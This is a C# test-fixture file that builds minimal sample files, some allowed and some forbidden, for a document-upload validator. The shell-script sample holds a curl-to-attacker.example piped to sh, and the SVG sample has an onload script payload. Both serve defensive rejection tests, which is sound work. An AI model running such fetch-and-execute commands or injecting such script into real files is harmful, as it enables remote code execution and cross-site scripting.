using System.IO.Compression;
using System.Text;

namespace Portal.Domain.Tests.Documents;

/// <summary>
/// Real minimal files of each allowed type and of the things a document must never be, built here byte by byte. Shared with
/// the integration tests (linked there), so that the API is exercised with the same corpus.
/// </summary>
public static class DocumentSamples
{
    public static byte[] Pdf() => Encoding.ASCII.GetBytes(
        "%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n" +
        "3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n");

    /// <summary>A 1×1 PNG (signature, IHDR, IDAT, IEND).</summary>
    public static byte[] Png() => Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");

    /// <summary>A 1×1 baseline JPEG (SOI, JFIF, quantisation and Huffman tables, frame, scan, EOI).</summary>
    public static byte[] Jpeg() => Convert.FromBase64String(
        "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////" +
        "wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=");

    public static byte[] Docx() => Ooxml("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        """<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Validation report</w:t></w:r></w:p></w:body></w:document>""");

    public static byte[] Xlsx() => Ooxml("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        """<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>""");

    public static byte[] Pptx() => Ooxml("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        """<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>""");

    /// <summary>A Word document with macros (.docm): the same container, a macro-enabled main part and a VBA project.</summary>
    public static byte[] Docm() => Ooxml("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "<w:document/>",
        ("word/vbaProject.bin", "\u00d0\u00cf\u0011\u00e0"));

    /// <summary>Declares a Word main part that is not in the archive.</summary>
    public static byte[] DocxWithoutItsMainPart() => Zip(("[Content_Types].xml", ContentTypes("/word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")));

    public static byte[] PlainZip() => Zip(("report.txt", "not an office document"), ("run.sh", "#!/bin/sh\n"));

    public static byte[] WindowsExecutable() => [.. "MZ"u8, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, .. new byte[50], .. "PE\0\0"u8];

    public static byte[] ElfExecutable() => [0x7F, (byte)'E', (byte)'L', (byte)'F', 0x02, 0x01, 0x01, 0x00, .. new byte[56]];

    public static byte[] MachOExecutable() => [0xCF, 0xFA, 0xED, 0xFE, 0x07, 0x00, 0x00, 0x01, .. new byte[24]];

    public static byte[] ShellScript() => "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"u8.ToArray();

    public static byte[] Html() => "<!DOCTYPE html>\n<html><body><script>fetch('/api/v1/models')</script></body></html>\n"u8.ToArray();

    public static byte[] Svg() => """<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>"""u8.ToArray();

    public static byte[] Csv() => "feature,type,missing\nincome,number,0.2%\nregion,text,0%\n"u8.ToArray();

    public static byte[] TextWithNul() => "looks like text\0but is not\n"u8.ToArray();

    private static byte[] Ooxml(string mainPart, string mainContentType, string mainXml, params (string Name, string Content)[] extra) => Zip(
        [
            ("[Content_Types].xml", ContentTypes("/" + mainPart, mainContentType)),
            ("_rels/.rels", $"""<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{mainPart}"/></Relationships>"""),
            (mainPart, $"""<?xml version="1.0" encoding="UTF-8"?>{mainXml}"""),
            .. extra,
        ]);

    private static string ContentTypes(string partName, string contentType) =>
        $"""<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="{partName}" ContentType="{contentType}"/></Types>""";

    private static byte[] Zip(params (string Name, string Content)[] entries)
    {
        var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open(), new UTF8Encoding(false));
                writer.Write(content);
            }
        }
        return bytes.ToArray();
    }
}
